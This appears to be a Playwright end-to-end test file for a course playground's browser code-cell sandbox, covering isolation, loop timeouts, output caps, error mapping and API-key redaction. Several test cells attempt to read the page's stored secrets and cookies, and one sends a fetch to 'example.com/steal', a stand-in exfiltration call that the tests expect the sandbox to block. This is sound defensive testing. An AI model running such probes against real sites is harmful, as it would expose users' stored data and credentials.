/**
 * The cell sandbox in the production build, in Chromium. Cells are run through the real UI once (the
 * "Run cell" button), then through `window.__tpRuntimeForTests`, which `src/runner/sandbox-kernel.ts`
 * exposes only when the page URL has `?test-hooks`: that lets these tests run arbitrary cells without
 * typing into the editor.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import type { RunEvent, RunRequest, RunResult } from '../../src/runner/protocol';
import { COURSE_MODELS } from '../../src/lessons/course-models';
import { launchChromium, siteUrl } from './browser';

interface CellOutcome {
  result: RunResult;
  events: RunEvent[];
  /** ms from `run()` to its result. */
  totalMs: number;
}

/** What `?test-hooks` exposes (see src/runner/sandbox-kernel.ts). */
interface TestWindow {
  __tpRuntimeForTests: {
    createSandboxKernel: typeof import('../../src/runner/sandbox-kernel').createSandboxKernel;
    loadBackend: () => Promise<typeof import('../../src/backend')>;
  };
}

let browser: Browser;
let page: Page;

/** Runs cells one after the other in one fresh sandbox kernel inside the page. */
async function runCells(requests: RunRequest[]): Promise<CellOutcome[]> {
  return page.evaluate(async (cells) => {
    const hooks = (window as unknown as TestWindow).__tpRuntimeForTests;
    const { createBackendSwitch } = await hooks.loadBackend();
    const runtime = hooks.createSandboxKernel({ api: createBackendSwitch({ pacing: 'instant' }) });
    const outcomes = [];
    for (const cell of cells) {
      const events: RunEvent[] = [];
      const started = performance.now();
      const result = await runtime.run(cell, (event) => events.push(event));
      outcomes.push({ result, events, totalMs: performance.now() - started });
    }
    runtime.dispose();
    return outcomes;
  }, requests);
}

/** The text of every console line of a run, one string per line. */
function consoleText(outcome: { events: RunEvent[] }): string[] {
  return outcome.events.flatMap((event) =>
    event.type === 'console' ? [event.args.map((arg) => ('value' in arg ? String(arg.value) : arg.kind)).join(' ')] : [],
  );
}

beforeAll(async () => {
  browser = await launchChromium();
  page = await browser.newPage();
  const origin = new URL(siteUrl()).origin;
  await page.goto(`${siteUrl()}?test-hooks&pacing=instant#/04-streaming`);
  // Secrets of the page's origin that a cell must not be able to read.
  await page.evaluate(async () => {
    localStorage.setItem('tp-secret', 'page-local-secret');
    sessionStorage.setItem('tp-secret', 'page-session-secret');
    document.cookie = 'tpsecret=page-cookie-secret';
    await new Promise<void>((resolve, reject) => {
      const open = indexedDB.open('tp-secret-db');
      open.onupgradeneeded = () => open.result.createObjectStore('s');
      open.onsuccess = () => {
        open.result.close();
        resolve();
      };
      open.onerror = () => reject(open.error);
    });
  });
  expect(origin).toMatch(/^http:\/\/127\.0\.0\.1:/);
  // A first run through the UI loads the runtime module, which installs the test hook.
  const runButtons = page.getByRole('button', { name: 'Run cell' });
  await runButtons.first().waitFor({ timeout: 30_000 });
  await runButtons.nth(0).click(); // the lesson's setup cell (imports, helpers)
  await page.waitForFunction(() => '__tpRuntimeForTests' in window, undefined, { timeout: 30_000 });
});

afterAll(async () => {
  await browser?.close();
});

describe('sandbox (production build)', () => {
  it('runs lesson cells through the UI: the raw streaming request reaches the emulator', async () => {
    const runButtons = page.getByRole('button', { name: 'Run cell' });
    await runButtons.nth(1).click(); // raw-stream (after setup): prints status and content type, then the SSE text
    await page.getByText('text/event-stream').first().waitFor({ timeout: 30_000 });
    await page.getByText('event: message_stop').first().waitFor({ timeout: 30_000 });
  });

  it('a cell cannot read the page’s localStorage, sessionStorage, cookies or IndexedDB, nor use the network directly', async () => {
    const [outcome] = await runCells([
      {
        cellId: 't/isolation',
        code: `
const report: Record<string, string> = {};
const g = globalThis as any;
report.origin = String(self.location.origin);
report.localStorage = typeof g.localStorage === 'undefined' ? 'unavailable' : String(g.localStorage.getItem('tp-secret'));
report.sessionStorage = typeof g.sessionStorage === 'undefined' ? 'unavailable' : String(g.sessionStorage.getItem('tp-secret'));
try { report.cookie = String(document.cookie); } catch { report.cookie = 'unavailable'; }
try {
  report.indexedDB = await new Promise<string>((resolve) => {
    const open = indexedDB.open('tp-secret-db');
    open.onsuccess = () => resolve('opened: ' + [...open.result.objectStoreNames].join(','));
    open.onerror = () => resolve('unavailable');
  });
} catch { report.indexedDB = 'unavailable'; }
report.xhr = await new Promise<string>((resolve) => {
  const xhr = new XMLHttpRequest();
  xhr.onload = () => resolve('loaded ' + xhr.status);
  xhr.onerror = () => resolve('failed');
  try { xhr.open('GET', ${JSON.stringify(siteUrl())}); xhr.send(); } catch { resolve('failed'); }
});
console.log(JSON.stringify(report));`,
      },
    ]);
    expect(outcome?.result.status).toBe('ok');
    const report = JSON.parse(consoleText(outcome!)[0] ?? '{}') as Record<string, string>;
    expect(report).toEqual({
      origin: 'null',
      localStorage: 'unavailable',
      sessionStorage: 'unavailable',
      cookie: 'unavailable',
      indexedDB: 'unavailable',
      xhr: 'failed',
    });
  });

  it('stops `while (true) {}` at once, times it out, keeps the page responsive, and the next run works', { retry: 2 }, async () => {
    const stopped = await page.evaluate(async () => {
      const hooks = (window as unknown as TestWindow).__tpRuntimeForTests;
      const { createBackendSwitch } = await hooks.loadBackend();
      const runtime = hooks.createSandboxKernel({ api: createBackendSwitch({ pacing: 'instant' }) });
      await runtime.run({ cellId: 'warm', code: 'const before = 1;' }, () => {});
      let ticks = 0;
      const ticker = setInterval(() => ticks++, 10);
      let looping = false;
      const running = runtime.run({ cellId: 'loop', code: 'console.log("looping");\nwhile (true) {}' }, (event) => {
        if (event.type === 'console') looping = true;
      });
      // Polls: the worker is in the loop, and the page's own timers still tick meanwhile (frozen: they would not).
      const until = async (condition: () => boolean) => {
        const deadline = performance.now() + 30_000;
        while (!condition() && performance.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 10));
      };
      await until(() => looping);
      const ticksAtLoop = ticks;
      await until(() => ticks > ticksAtLoop + 3);
      ticks -= ticksAtLoop;
      runtime.stop();
      const result = await running;
      clearInterval(ticker);
      const after: RunEvent[] = [];
      const next = await runtime.run({ cellId: 'next', code: 'console.log(typeof before, "alive");' }, (e) => after.push(e));
      const timedOut = await runtime.run({ cellId: 'loop2', code: 'while (true) {}', timeoutMs: 400 }, () => {});
      runtime.dispose();
      return { result, ticks, next, after, timedOut };
    });
    expect(stopped.result).toMatchObject({ status: 'stopped', scopeLost: true });
    expect(stopped.ticks).toBeGreaterThan(3); // the page kept running its timers during the loop (frozen: 0)
    expect(stopped.next.status).toBe('ok');
    // the scope was lost with the worker: `before` is gone
    expect(stopped.after).toContainEqual({ type: 'console', level: 'log', args: [{ kind: 'string', value: 'undefined' }, { kind: 'string', value: 'alive' }] });
    expect(stopped.timedOut).toMatchObject({ status: 'timeout', scopeLost: true, error: { name: 'TimeoutError' } });
    // The cell's own limit ended it, not the default 30 s (stop latency is measured in bench/stop-latency.ts).
    expect(stopped.timedOut.durationMs).toBeLessThan(30_000);
  });

  it('refuses hosts other than api.anthropic.com, naming the host', async () => {
    const [outcome] = await runCells([{ cellId: 't/host', code: "await fetch('https://example.com/steal?data=1');" }]);
    expect(outcome?.result.status).toBe('error');
    expect(outcome?.result.error).toMatchObject({
      name: 'TypeError',
      message: 'The playground only lets cells call https://api.anthropic.com; blocked: https://example.com/',
      line: 1,
    });
  });

  it('imports the official SDK on demand and streams from the emulator; the exchange is recorded with the key redacted', async () => {
    const [outcome] = await runCells([
      {
        cellId: 't/sdk',
        code: `
import Anthropic from '@anthropic-ai/sdk';
const client = new Anthropic({ dangerouslyAllowBrowser: true });
const stream = client.messages.stream({
  model: ${JSON.stringify(COURSE_MODELS.default)},
  max_tokens: 1024,
  messages: [{ role: 'user', content: 'Say hello' }],
});
let events = 0;
stream.on('streamEvent', () => { events++; });
const message = await stream.finalMessage();
console.log('events', events >= 5, message.type, message.content[0]?.type, client instanceof Anthropic);`,
      },
    ]);
    expect(outcome?.result.status).toBe('ok');
    expect(consoleText(outcome!)).toContain('events true message text true');
    const exchanges = outcome!.events.flatMap((e) => (e.type === 'exchange' ? [e.exchange] : []));
    const last = exchanges.at(-1);
    expect(last?.request.url).toBe('https://api.anthropic.com/v1/messages');
    expect(last?.request.headers['anthropic-dangerous-direct-browser-access']).toBe('true');
    const credential = last?.request.headers['x-api-key'] ?? last?.request.headers.authorization ?? '';
    expect(credential).toMatch(/sk-ant-…0000$/);
    expect(JSON.stringify(exchanges)).not.toContain('sk-ant-playground-0000000000000000');
    expect(last?.response).toMatchObject({ status: 200, streamed: true });
    expect(last?.response?.body).toContain('event: message_stop');
  });

  it('imports the course module @course/tool-loop (lessons/lib/tool-loop.ts) and runs its loop; other specifiers are refused by name', async () => {
    const [loop, unknown] = await runCells([
      {
        cellId: 't/course-module',
        code: `
import Anthropic from '@anthropic-ai/sdk';
import { runToolLoop } from '@course/tool-loop';
const client = new Anthropic({ dangerouslyAllowBrowser: true });
const weather: Anthropic.Tool = {
  name: 'get_weather',
  description: 'Returns the current weather for one city. Call it whenever the user asks about the weather.',
  input_schema: { type: 'object', properties: { city: { type: 'string' } }, required: ['city'] },
};
const result = await runToolLoop(
  client,
  { model: ${JSON.stringify(COURSE_MODELS.default)}, max_tokens: 1024, tools: [weather], messages: [{ role: 'user', content: "What's the weather in Paris?" }] },
  { get_weather: (input) => ({ city: (input as { city: string }).city, celsius: 18 }) },
);
console.log('loop', result.stop, result.requests, result.messages.map((m) => m.role).join(','));`,
      },
      { cellId: 't/unknown-module', code: `import { x } from '@course/nope';` },
    ]);
    expect(loop?.result.status, JSON.stringify(loop?.result.error)).toBe('ok');
    expect(consoleText(loop!)).toEqual(['loop end_turn 2 user,assistant,user,assistant']);
    expect(unknown?.result.error?.message).toMatch(/'@anthropic-ai\/sdk', '@course\/tool-loop'; '@course\/nope' is not available/);
  });

  it('shares a notebook scope between cells and maps errors to the TypeScript line', async () => {
    const outcomes = await runCells([
      { cellId: 't/a', code: 'const greeting: string = "hi";\nfunction shout(s: string): string { return s.toUpperCase(); }' },
      { cellId: 't/b', code: 'console.log(shout(greeting));' },
      { cellId: 't/a', code: 'const greeting = "again";' },
      { cellId: 't/c', code: 'console.log(shout(greeting));\n\ninterface X { a: number }\nundefinedName.call();' },
    ]);
    expect(outcomes.map((o) => o.result.executionCount)).toEqual([1, 2, 3, 4]);
    expect(consoleText(outcomes[1]!)).toEqual(['HI']);
    expect(outcomes[3]?.result.error).toMatchObject({ name: 'ReferenceError', line: 4 });
    expect(consoleText(outcomes[3]!)).toEqual(['AGAIN']);
  });

  it('reports errors thrown after the cell settled, and unhandled rejections, to that cell', async () => {
    const late = await page.evaluate(async () => {
      const hooks = (window as unknown as TestWindow).__tpRuntimeForTests;
      const { createBackendSwitch } = await hooks.loadBackend();
      const runtime = hooks.createSandboxKernel({ api: createBackendSwitch({ pacing: 'instant' }) });
      const events: RunEvent[] = [];
      const result = await runtime.run(
        { cellId: 'late', code: 'setTimeout(() => { throw new RangeError("later"); }, 20);\nPromise.reject(new Error("nobody awaited me"));' },
        (e) => events.push(e),
      );
      // Poll until both late errors arrived (or give up after 30 s and let the assertion say what came).
      const deadline = performance.now() + 30_000;
      while (events.filter((e) => e.type === 'error').length < 2 && performance.now() < deadline) {
        await new Promise((resolve) => setTimeout(resolve, 10));
      }
      runtime.dispose();
      return { result, events };
    });
    expect(late.result.status).toBe('ok');
    const errors = late.events.flatMap((e) => (e.type === 'error' ? [`${e.error.name}: ${e.error.message}`] : []));
    expect(errors.sort()).toEqual(['Error: nobody awaited me', 'RangeError: later']);
  });

  it('an abort in the cell cancels the request on the page; the exchange says so', async () => {
    const [outcome] = await runCells([
      {
        cellId: 't/abort',
        code: `
import Anthropic from '@anthropic-ai/sdk';
await playground.emulator.inject({ kind: 'latency', ms: 5000 });
const controller = new AbortController();
const client = new Anthropic({ dangerouslyAllowBrowser: true, maxRetries: 0 });
const pending = client.messages.create(
  { model: ${JSON.stringify(COURSE_MODELS.default)}, max_tokens: 16, messages: [{ role: 'user', content: 'hi' }] },
  { signal: controller.signal },
);
setTimeout(() => controller.abort(), 100);
try { await pending; } catch (error) { console.log('caught', (error as Error).name); }`,
      },
    ]);
    expect(outcome?.result.status).toBe('ok');
    expect(outcome!.totalMs).toBeLessThan(4000);
    expect(consoleText(outcome!)).toEqual(['caught APIUserAbortError']);
    const exchanges = outcome!.events.flatMap((e) => (e.type === 'exchange' ? [e.exchange] : []));
    expect(exchanges.at(-1)?.error).toMatch(/^AbortError/);
  });

  it('a 34 MB request body reaches the emulator whole (413) in seconds; the exchange keeps only its start', async () => {
    const headers = `{ 'x-api-key': process.env.ANTHROPIC_API_KEY, 'anthropic-version': '2023-06-01', 'content-type': 'application/json', 'anthropic-dangerous-direct-browser-access': 'true' }`;
    const [huge, accented] = await runCells([
      {
        cellId: 't/huge-body',
        code: `
const body = JSON.stringify({ model: ${JSON.stringify(COURSE_MODELS.default)}, max_tokens: 16, messages: [{ role: 'user', content: 'x'.repeat(34_000_000) }] });
const response = await fetch('https://api.anthropic.com/v1/messages', { method: 'POST', headers: ${headers}, body });
console.log(response.status, (await response.json()).error.type);`,
      },
      {
        cellId: 't/accented-body',
        code: `
const response = await fetch('https://api.anthropic.com/v1/messages', { method: 'POST', headers: ${headers},
  body: JSON.stringify({ model: ${JSON.stringify(COURSE_MODELS.default)}, max_tokens: 16, messages: [{ role: 'user', content: 'héllo wörld ✓' }] }) });
console.log(response.status);`,
      },
    ]);
    expect(huge?.result.status).toBe('ok');
    expect(consoleText(huge!)).toEqual(['413 request_too_large']);
    const record = huge!.events.flatMap((e) => (e.type === 'exchange' ? [e.exchange] : [])).at(-1);
    expect(record?.request.body.length).toBeLessThan(300 * 1024);
    expect(record?.request.body).toMatch(/truncated: 34,000,\d{3} bytes in total/);
    expect(record?.response?.status).toBe(413);

    expect(consoleText(accented!)).toEqual(['200']);
    const accentedRecord = accented!.events.flatMap((e) => (e.type === 'exchange' ? [e.exchange] : [])).at(-1);
    expect(JSON.parse(accentedRecord!.request.body).messages[0].content).toBe('héllo wörld ✓');
  });

  it('live mode: the page swaps in the learner’s key on the way out; the sandbox, output and exchanges never see it', async () => {
    const realKey = 'sk-ant-api03-e2e-REAL-KEY-never-in-sandbox-9z9Z';
    const seen: { url: string; credential: string | undefined }[] = [];
    // Stands in for the real API at the network layer (the page's own fetch goes through it).
    await page.route('https://api.anthropic.com/**', async (route) => {
      const request = route.request();
      const cors = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'access-control-allow-methods': '*' };
      if (request.method() === 'OPTIONS') return route.fulfill({ status: 204, headers: cors });
      const headers = request.headers();
      seen.push({ url: request.url(), credential: headers['x-api-key'] ?? headers.authorization });
      return route.fulfill({
        status: 200,
        headers: { ...cors, 'content-type': 'application/json', 'request-id': 'req_live' },
        body: JSON.stringify({
          id: 'msg_live', type: 'message', role: 'assistant', model: 'claude-live',
          content: [{ type: 'text', text: 'live says hi; your key was ' + (headers['x-api-key'] ?? headers.authorization) }],
          stop_reason: 'end_turn', stop_sequence: null, usage: { input_tokens: 3, output_tokens: 5 },
        }),
      });
    });
    try {
      const outcome = await page.evaluate(async (key) => {
        const hooks = (window as unknown as TestWindow).__tpRuntimeForTests;
        const { createBackendSwitch } = await hooks.loadBackend();
        const api = createBackendSwitch();
        api.setLiveKey(key);
        api.setMode('live');
        const runtime = hooks.createSandboxKernel({ api });
        const events: RunEvent[] = [];
        const result = await runtime.run(
          {
            cellId: 'live',
            code: `import Anthropic from '@anthropic-ai/sdk';
const client = new Anthropic({ dangerouslyAllowBrowser: true });
const reply = await client.messages.create({ model: 'claude-live', max_tokens: 8, messages: [{ role: 'user', content: 'hi' }] });
console.log(playground.mode, JSON.stringify(process.env), JSON.stringify(reply));
try { playground.emulator.reset(); } catch (error) { console.log((error as Error).message); }`,
          },
          (e) => events.push(e),
        );
        runtime.dispose();
        return { result, events };
      }, realKey);
      expect(outcome.result.status).toBe('ok');
      expect(seen).toHaveLength(1);
      expect(seen[0]?.credential).toContain(realKey);
      const everythingTheUiGot = JSON.stringify(outcome.events);
      expect(everythingTheUiGot).not.toContain(realKey);
      const lines = consoleText(outcome);
      expect(lines[0]).toMatch(/^live /);
      expect(lines[0]).toMatch(/your key was (Bearer )?sk-ant-…9z9Z"/); // an echo of the key comes back redacted
      expect(lines[1]).toMatch(/only works with the emulator/);
      const exchange = outcome.events.flatMap((e) => (e.type === 'exchange' ? [e.exchange] : [])).at(-1);
      expect(exchange).toMatchObject({ route: 'live', response: { status: 200 } });
    } finally {
      await page.unroute('https://api.anthropic.com/**');
    }
  });

  it('runs exercise checks in the cell’s scope and reports each with a diff', async () => {
    const [outcome, failing] = await runCells([
      {
        cellId: 't/exercise',
        code: 'function add(a: number, b: number): number { return a + b + (a === 2 ? 1 : 0); }\nawait fetch("https://api.anthropic.com/v1/models", { headers: { "x-api-key": process.env.ANTHROPIC_API_KEY!, "anthropic-version": "2023-06-01", "anthropic-dangerous-direct-browser-access": "true" } });',
        checks: "check('adds small numbers', () => expect(add(1, 1)).toBe(2));\ncheck('adds 2 + 2', () => expect({ sum: add(2, 2) }).toEqual({ sum: 4 }));\ncheck('made one request', () => expect(exchanges).toHaveLength(1));",
      },
      { cellId: 't/exercise', code: 'throw new Error("not yet");', checks: "check('one', () => {});\ncheck('two', () => {});" },
    ]);
    expect(outcome?.result.checks).toEqual([
      { name: 'adds small numbers', passed: true },
      {
        name: 'adds 2 + 2',
        passed: false,
        message: 'expected { "sum": 5 } to equal { "sum": 4 }',
        diff: { actual: '{\n  "sum": 5\n}', expected: '{\n  "sum": 4\n}' },
      },
      { name: 'made one request', passed: true },
    ]);
    expect(outcome?.events.filter((e) => e.type === 'check')).toHaveLength(3);
    expect(failing?.result.status).toBe('error');
    expect(failing?.result.checks?.map((c) => [c.name, c.passed])).toEqual([
      ['one', false],
      ['two', false],
    ]);
    expect(failing?.result.checks?.[0]?.message).toContain('not yet');
  });

  it('caps an output flood; a warm run prints', async () => {
    const outcomes = await runCells([
      { cellId: 't/warm1', code: 'console.log(1);' },
      { cellId: 't/warm2', code: 'console.log(2);' },
      { cellId: 't/flood', code: 'for (let i = 0; i < 100_000; i++) console.log("line", i);' },
    ]);
    const flood = outcomes[2]!;
    expect(flood.result.status).toBe('ok');
    expect(consoleText(flood)).toHaveLength(5000);
    expect(flood.events.filter((e) => e.type === 'truncated')).toEqual([{ type: 'truncated', droppedLines: 95_000 }]);
    // Warm-run latency is measured in bench/run-latency.ts, not asserted here.
    expect(consoleText(outcomes[1]!)).toEqual(['2']);
  });

  it('restarts with an empty scope, with the warm spare and with a fresh worker', async () => {
    const timings = await page.evaluate(async () => {
      const hooks = (window as unknown as TestWindow).__tpRuntimeForTests;
      const { createBackendSwitch } = await hooks.loadBackend();
      const runtime = hooks.createSandboxKernel({ api: createBackendSwitch({ pacing: 'instant' }) });
      await runtime.run({ cellId: 'a', code: 'const kept = 1;' }, () => {});
      await runtime.restart();
      // Right away again: the frame has no spare yet, so this one starts a fresh worker.
      await runtime.restart();
      const events: RunEvent[] = [];
      const result = await runtime.run({ cellId: 'b', code: 'console.log(typeof kept);' }, (e) => events.push(e));
      runtime.dispose();
      return { result, events };
    });
    expect(timings.result.executionCount).toBe(1);
    expect(timings.events).toContainEqual({ type: 'console', level: 'log', args: [{ kind: 'string', value: 'undefined' }] });
  });
});
